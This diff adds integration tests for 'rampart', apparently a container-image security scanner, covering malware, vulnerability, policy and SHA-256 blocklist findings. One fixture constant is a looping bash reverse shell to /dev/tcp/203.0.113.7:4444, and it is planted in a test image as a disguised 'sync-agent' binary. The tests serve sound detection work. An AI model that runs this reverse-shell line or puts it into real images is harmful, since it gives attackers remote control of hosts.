@@ -1,0 +1,237 @@
+import { createHash } from 'node:crypto';
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { runCli } from './helpers/cli.js';
+import { EICAR } from './helpers/eicar.js';
+import { buildLayeredImage } from './helpers/image-build.js';
+import { freePort, pushLayout, startRegistry, type LocalRegistry, type PushedImage } from './helpers/registry.js';
+
+const here = path.dirname(fileURLToPath(import.meta.url));
+const npmAdvisories = path.join(here, 'fixtures', 'osv', 'npm');
+
+const REVERSE_SHELL = '#!/bin/bash\nwhile :; do bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; sleep 30; done\n';
+const DROPPER = Buffer.from('#!/bin/sh\n# fetched helper, known bad\necho dropped > /tmp/x\n');
+
+let work: string;
+let registry: LocalRegistry;
+let web: PushedImage;
+let clean: PushedImage;
+let database: string;
+
+interface JsonFinding {
+  ruleId: string;
+  severity: string;
+  message: string;
+  location: { path: string; line: number };
+  snippet: string;
+  fingerprint: string;
+  properties: Record<string, string | number | boolean>;
+}
+interface JsonReport {
+  findings: JsonFinding[];
+  diagnostics: Array<{ path: string; line?: number; message: string; kind: string }>;
+  images: Array<{ reference: string; digest?: string; tagResolved: boolean; error?: string; findings: number; vulnerabilities: string; referencedAt: Array<{ path: string; line: number }>; platforms: Array<{ os?: string; packages: Record<string, number> }> }>;
+}
+
+async function scanJson(repo: string, extra: readonly string[] = []): Promise<{ code: number; report: JsonReport; stderr: string }> {
+  const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-f', 'json', '-q', ...extra]);
+  return { code: result.code, report: result.stdout ? (JSON.parse(result.stdout) as JsonReport) : { findings: [], diagnostics: [], images: [] }, stderr: result.stderr };
+}
+
+function deployment(name: string, image: string): string {
+  return `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\nspec:\n  template:\n    spec:\n      containers:\n        - name: ${name}\n          image: ${image}\n`;
+}
+
+async function repository(name: string, files: Record<string, string>): Promise<string> {
+  const root = path.join(work, 'repos', name);
+  for (const [file, text] of Object.entries(files)) {
+    await mkdir(path.dirname(path.join(root, file)), { recursive: true });
+    await writeFile(path.join(root, file), text);
+  }
+  return root;
+}
+
+const imageFindings = (report: JsonReport): JsonFinding[] => report.findings.filter((finding) => finding.properties?.['imageDigest'] !== undefined);
+
+beforeAll(async () => {
+  work = await mkdtemp(path.join(tmpdir(), 'rampart-analyze-images-'));
+  process.env['XDG_CACHE_HOME'] = path.join(work, 'cache');
+  registry = await startRegistry();
+  const webLayout = await buildLayeredImage(work, 'web', 'v1', [
+    { files: { 'app/node_modules/minimist/package.json': '{"name":"minimist","version":"1.2.5"}', 'etc/os-release': 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n' }, createdBy: 'COPY app /app' },
+    { files: { 'usr/local/bin/sync-agent': REVERSE_SHELL, 'opt/helper.sh': DROPPER, 'var/tmp/eicar.com': EICAR }, modes: { 'usr/local/bin/sync-agent': 0o755, 'opt/helper.sh': 0o755, 'var/tmp/eicar.com': 0o755 }, createdBy: 'RUN curl -o /usr/local/bin/sync-agent https://example.net/agent' },
+  ]);
+  web = await pushLayout(registry, webLayout, 'v1', 'team/web', '1.0');
+  const cleanLayout = await buildLayeredImage(work, 'clean', 'v1', [{ files: { 'etc/motd': 'hello\n' } }]);
+  clean = await pushLayout(registry, cleanLayout, 'v1', 'team/clean', '2.0');
+  database = path.join(work, 'vulndb');
+  const imported = await runCli(['db', 'import', '--db', database, npmAdvisories]);
+  expect(imported.code).toBe(0);
+}, 180_000);
+
+afterAll(async () => {
+  await registry?.stop();
+  await rm(work, { recursive: true, force: true });
+});
+
+describe('scan --analyze-images', () => {
+  it('reports each image finding at every manifest line that deploys the image, with the image, digest, layer and path', async () => {
+    const pinned = `${registry.host}/team/web@${web.digest}`;
+    const repo = await repository('pinned', {
+      'apps/web.yaml': deployment('web', pinned),
+      'apps/web-canary.yaml': `# canary\n${deployment('web-canary', pinned)}`,
+    });
+    const { code, report } = await scanJson(repo, ['--db', database]);
+    expect(code).toBe(1);
+    const found = imageFindings(report);
+    const malware = found.filter((finding) => finding.ruleId === 'image-malware');
+    expect(malware.map((finding) => [finding.location.path, finding.location.line, finding.properties['path'], finding.properties['yaraRule']]).sort()).toEqual([
+      ['apps/web-canary.yaml', 11, 'usr/local/bin/sync-agent', 'rampart_reverse_shell'],
+      ['apps/web-canary.yaml', 11, 'var/tmp/eicar.com', 'rampart_eicar_test_file'],
+      ['apps/web.yaml', 10, 'usr/local/bin/sync-agent', 'rampart_reverse_shell'],
+      ['apps/web.yaml', 10, 'var/tmp/eicar.com', 'rampart_eicar_test_file'],
+    ]);
+    const shell = malware.find((finding) => finding.location.path === 'apps/web.yaml' && finding.properties['path'] === 'usr/local/bin/sync-agent')!;
+    expect(shell.properties).toMatchObject({ image: pinned, imageDigest: web.digest, layer: 1, source: 'kubernetes' });
+    expect(shell.properties['tagResolved']).toBeUndefined();
+    expect(shell.snippet).toContain(`image: ${pinned}`);
+    expect(shell.message).toMatch(new RegExp(`^${pinned.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: usr/local/bin/sync-agent in layer 1 matches YARA rule rampart_reverse_shell`));
+    const vulnerability = found.find((finding) => finding.ruleId === 'image-vulnerability' && finding.location.path === 'apps/web.yaml')!;
+    expect(vulnerability.properties).toMatchObject({ advisory: 'GHSA-xvch-5gv4-984h', aliases: 'CVE-2021-44906', package: 'minimist', path: 'app/node_modules/minimist/package.json', layer: 0, imageDigest: web.digest });
+    expect(vulnerability.severity).toBe('critical');
+    // one image, read once, listed once with both lines
+    expect(report.images).toHaveLength(1);
+    expect(report.images[0]).toMatchObject({ reference: pinned, digest: web.digest, tagResolved: false, vulnerabilities: 'checked' });
+    expect(report.images[0]!.referencedAt).toEqual([{ path: 'apps/web-canary.yaml', line: 11 }, { path: 'apps/web.yaml', line: 10 }]);
+    expect(report.images[0]!.platforms[0]).toMatchObject({ os: 'Debian GNU/Linux 12 (bookworm)', packages: { npm: 1 } });
+    expect(new Set(found.map((finding) => finding.fingerprint)).size).toBe(found.length);
+  });
+
+  it('resolves a tag to its digest and says so; without a database the packages are unchecked, never clean', async () => {
+    const repo = await repository('tagged', { 'docker-compose.yml': `services:\n  web:\n    image: ${registry.host}/team/web:1.0\n  motd:\n    image: ${registry.host}/team/clean:2.0\n` });
+    const { code, report } = await scanJson(repo, ['--db', path.join(work, 'no-db')]);
+    expect(code).toBe(1);
+    const web10 = imageFindings(report).filter((finding) => finding.properties['image'] === `${registry.host}/team/web:1.0`);
+    expect(web10.length).toBeGreaterThan(0);
+    expect(web10.every((finding) => finding.properties['tagResolved'] === true && finding.properties['imageDigest'] === web.digest && finding.location.line === 3)).toBe(true);
+    expect(web10[0]!.message).toContain(`(tag resolved to ${web.digest})`);
+    expect(web10.some((finding) => finding.ruleId === 'image-vulnerability')).toBe(false);
+    expect(report.images.map((image) => [image.reference, image.digest, image.tagResolved, image.vulnerabilities])).toEqual([
+      [`${registry.host}/team/web:1.0`, web.digest, true, 'unchecked'],
+      [`${registry.host}/team/clean:2.0`, clean.digest, true, 'unchecked'],
+    ]);
+    expect(report.diagnostics.some((diagnostic) => diagnostic.path === 'docker-compose.yml' && diagnostic.line === 3 && /npm package was not checked for vulnerabilities/.test(diagnostic.message))).toBe(true);
+  });
+
+  it('reports an image the registry cannot serve at its lines and analyses the others (exit 2: incomplete)', async () => {
+    const deadPort = await freePort();
+    const repo = await repository('broken', {
+      'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
+      'missing.yaml': deployment('missing', `${registry.host}/team/missing:9.9`),
+      'down.yaml': deployment('down', `127.0.0.1:${deadPort}/team/app:1`),
+    });
+    const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', `${registry.host},127.0.0.1:${deadPort}`, '--registry-timeout', '5', '-f', 'json', '-q']);
+    expect(result.code).toBe(2);
+    const report = JSON.parse(result.stdout) as JsonReport;
+    expect(imageFindings(report).some((finding) => finding.location.path === 'web.yaml' && finding.ruleId === 'image-malware')).toBe(true);
+    const missing = report.diagnostics.find((diagnostic) => diagnostic.path === 'missing.yaml')!;
+    expect(missing).toMatchObject({ line: 10, kind: 'incomplete' });
+    expect(missing.message).toContain(`${registry.host}/team/missing:9.9`);
+    const down = report.diagnostics.find((diagnostic) => diagnostic.path === 'down.yaml')!;
+    expect(down).toMatchObject({ line: 10, kind: 'incomplete' });
+    expect(report.images.filter((image) => image.error).map((image) => image.reference).sort()).toEqual([`${registry.host}/team/missing:9.9`, `127.0.0.1:${deadPort}/team/app:1`].sort());
+  });
+
+  it('writes SARIF results at the manifest line with the image properties, and text naming the image', async () => {
+    const pinned = `${registry.host}/team/web@${web.digest}`;
+    const repo = await repository('sarif', { 'web.yaml': deployment('web', pinned) });
+    const sarif = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-f', 'sarif', '-q']);
+    const results = (JSON.parse(sarif.stdout) as { runs: Array<{ results: Array<{ ruleId: string; locations: Array<{ physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }>; properties: Record<string, unknown> }> }> }).runs[0]!.results;
+    const eicar = results.find((result) => result.ruleId === 'image-malware' && result.properties['path'] === 'var/tmp/eicar.com')!;
+    expect(eicar.locations[0]!.physicalLocation).toMatchObject({ artifactLocation: { uri: 'web.yaml' }, region: { startLine: 10 } });
+    expect(eicar.properties).toMatchObject({ image: pinned, imageDigest: web.digest, layer: 1 });
+    const text = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '--no-color', '-q']);
+    expect(text.code).toBe(1);
+    expect(text.stdout).toContain('web.yaml:10');
+    expect(text.stdout).toContain(`${pinned}: var/tmp/eicar.com in layer 1 matches YARA rule rampart_eicar_test_file`);
+  });
+
+  it('takes a suppression comment on the manifest line', async () => {
+    const pinned = `${registry.host}/team/web@${web.digest}`;
+    const repo = await repository('suppressed', { 'web.yaml': deployment('web', pinned).replace(/image: .*\n$/, (line) => `${line.trimEnd()} # rampart-ignore image-malware -- reviewed: test fixtures\n`) });
+    const { report } = await scanJson(repo);
+    expect(imageFindings(report).some((finding) => finding.ruleId === 'image-malware')).toBe(false);
+  });
+});
+
+describe('.rampart.yaml images policy', () => {
+  it('drops image findings under minSeverity, ignores an advisory by alias until its expiry, and names expired entries', async () => {
+    const pinned = `${registry.host}/team/web@${web.digest}`;
+    const config = [
+      'images:',
+      '  minSeverity: high',
+      '  ignore:',
+      '    - id: CVE-2021-44906',
+      '      reason: minimist only parses our own fixed arguments',
+      '      expires: 2999-12-31',
+      '      images: ["127.0.0.1:*/team/**"]',
+      '    - id: GHSA-4444-4444-4444',
+      '      reason: was waiting for a fix',
+      '      expires: 2020-01-31',
+      '',
+    ].join('\n');
+    const repo = await repository('policy', { 'web.yaml': deployment('web', pinned), '.rampart.yaml': config });
+    const { report } = await scanJson(repo, ['--db', database]);
+    const found = imageFindings(report);
+    expect(found.some((finding) => finding.properties['advisory'] === 'GHSA-xvch-5gv4-984h')).toBe(false);
+    expect(found.every((finding) => finding.severity === 'high' || finding.severity === 'critical')).toBe(true);
+    expect(report.diagnostics.find((diagnostic) => /GHSA-4444-4444-4444 expired on 2020-01-31/.test(diagnostic.message))).toMatchObject({ kind: 'note' });
+    expect(report.images[0]).toMatchObject({ ignored: 1 });
+  });
+
+  it('rejects an ignore entry without a reason or with a bad date, naming the file and the field', async () => {
+    const repo = await repository('bad-policy', {
+      'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`),
+      '.rampart.yaml': 'images:\n  ignore:\n    - id: CVE-2024-3094\n      expires: 2024-13-01\n',
+    });
+    const result = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '-q']);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain('.rampart.yaml');
+    expect(result.stderr).toMatch(/images\.ignore\.0\.reason/);
+    expect(result.stderr).toMatch(/images\.ignore\.0\.expires: not a calendar date/);
+  });
+});
+
+describe('--blocklist', () => {
+  it('reports a file of any layer whose SHA-256 is listed as image-malware, in scan and in rampart image', async () => {
+    const digest = createHash('sha256').update(DROPPER).digest('hex');
+    const list = path.join(work, 'blocklist.txt');
+    await writeFile(list, `# operator list\n${'0'.repeat(64)}  harmless placeholder\n${digest} dropper seen in incident 42\n`);
+    const pinned = `${registry.host}/team/web@${web.digest}`;
+    const repo = await repository('blocklist', { 'web.yaml': deployment('web', pinned) });
+    const { report } = await scanJson(repo, ['--blocklist', list]);
+    const listed = imageFindings(report).filter((finding) => finding.properties['detector'] === 'blocklist');
+    expect(listed.map((finding) => [finding.ruleId, finding.severity, finding.properties['path'], finding.properties['sha256'], finding.location.line])).toEqual([
+      ['image-malware', 'critical', 'opt/helper.sh', digest, 10],
+    ]);
+    expect(listed[0]!.message).toContain('dropper seen in incident 42');
+    const image = await runCli(['image', pinned, '--insecure-registry', registry.host, '--blocklist', list, '-f', 'json']);
+    const direct = (JSON.parse(image.stdout) as JsonReport).findings.filter((finding) => finding.properties['detector'] === 'blocklist');
+    expect(direct.map((finding) => [finding.location.path, finding.properties['layer']])).toEqual([['opt/helper.sh', 1]]);
+  });
+
+  it('names the file and line of a malformed blocklist (exit 2)', async () => {
+    const list = path.join(work, 'bad-blocklist.txt');
+    await writeFile(list, `${'a'.repeat(64)}\nnot-a-digest\n`);
+    const repo = await repository('bad-blocklist', { 'web.yaml': deployment('web', `${registry.host}/team/web@${web.digest}`) });
+    const scan = await runCli(['scan', repo, '--analyze-images', '--insecure-registry', registry.host, '--blocklist', list, '-q']);
+    expect(scan.code).toBe(2);
+    expect(scan.stderr).toContain(`${list}:2: expected a SHA-256`);
+    const image = await runCli(['image', `${registry.host}/team/web@${web.digest}`, '--insecure-registry', registry.host, '--blocklist', list]);
+    expect(image.code).toBe(2);
+    expect(image.stderr).toContain(`${list}:2: expected a SHA-256`);
+  });
+});
